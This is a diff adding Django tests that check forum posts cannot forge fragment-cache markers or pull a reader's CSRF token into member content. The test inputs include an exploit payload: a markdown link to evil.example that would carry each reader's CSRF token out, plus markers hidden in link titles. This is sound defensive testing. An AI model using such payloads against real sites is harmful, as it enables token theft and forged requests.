@@ -12,6 +12,7 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
 from community.forums import services
+from community.forums.fragments import csrf_placeholder, marker_tag
 from community.forums.models import Category, Post, Tag, Thread
 from tests.forums.conftest import make_member
 
@@ -23,7 +24,8 @@ def _get(client, url) -> tuple[str, list[str]]:
         response = client.get(url)
     assert response.status_code == 200
     html = response.content.decode()
-    assert "<!--fc:" not in html and "<!--/fc-->" not in html, "a marker reached the reader"
+    assert "<!--fc" not in html and "<!--/fc" not in html, "a marker reached the reader"
+    assert marker_tag() not in html, "the marker tag reached the reader"
     return html, [q["sql"] for q in ctx.captured_queries]
 
 
@@ -124,6 +126,44 @@ def test_markers_typed_by_members_stay_text(qa, asker, third):
     html = _get(client, thread.get_absolute_url())[0]
     assert "Why &lt;!--fc:own:1--&gt; in my title" in html
     assert "Why &lt;!--fc:own:1--&gt; in my title" in _get(client, reverse("forums:index"))[0]
+
+
+def _csrf_token(html: str) -> str:
+    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)[1]
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        # The probe's exploit: the old placeholder in a link, filled with each reader's token.
+        "[l](http://evil.example/l?t=\ue0f0csrf\ue0f1)",
+        "\ue0f0csrf\ue0f1 in plain text",
+        # Markers carried inside an attribute, where the sanitizer keeps "<" as is.
+        '[l](http://evil.example/ "<!--fc:own:1-->x<!--/fc-->") and ![i](http://evil.example/i.png "<!--fc:vote:1:2-->")',
+    ],
+)
+def test_member_content_cannot_forge_a_marker(qa, asker, answerer, third, body):
+    """No post can make the page carry a reader's CSRF token or a per-reader control: only
+    markers with the server's secret tag are filled."""
+    thread = services.thread_create(author=asker, category=qa, title="How do I stream?", body="Question body here.")
+    services.post_create(author=answerer, thread=thread, body=body)
+    for reader in (third, asker):
+        client = Client()
+        client.force_login(reader)
+        for _ in range(2):  # rendered, then from the cache
+            html = _get(client, thread.get_absolute_url())[0]
+            token = _csrf_token(html)
+            links = re.findall(r'(?:href|src|title)="([^"]*)"', html)
+            assert not [link for link in links if token in link], "a reader's CSRF token left in member content"
+            assert html.count(token) == html.count('name="csrfmiddlewaretoken"')
+
+
+def test_the_placeholder_is_secret_to_the_deployment(settings):
+    """The tag comes from the SECRET_KEY: another deployment's (or a guessed) tag differs."""
+    tag, placeholder = marker_tag(), csrf_placeholder()
+    assert len(tag) > 20 and tag in placeholder
+    settings.SECRET_KEY = "another-secret-key-for-another-deployment-0123456789-abcdef"
+    assert marker_tag() != tag and csrf_placeholder() != placeholder
 
 
 def test_unknown_query_parameters_bypass_the_cache(question, answer):
